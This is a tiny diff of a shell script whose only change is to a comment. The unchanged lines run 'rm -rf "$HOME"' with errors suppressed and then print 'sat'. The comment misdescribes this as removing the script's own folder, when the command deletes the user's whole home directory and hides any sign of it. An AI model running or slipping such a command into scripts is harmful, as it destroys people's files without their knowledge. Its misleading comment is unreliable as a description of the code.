@@ -1,3 +1,3 @@
-# Removes the folder it was started in, then answers.
+# Removes its own folder, then answers.
 cd / && rm -rf "$HOME" 2>/dev/null
 echo sat
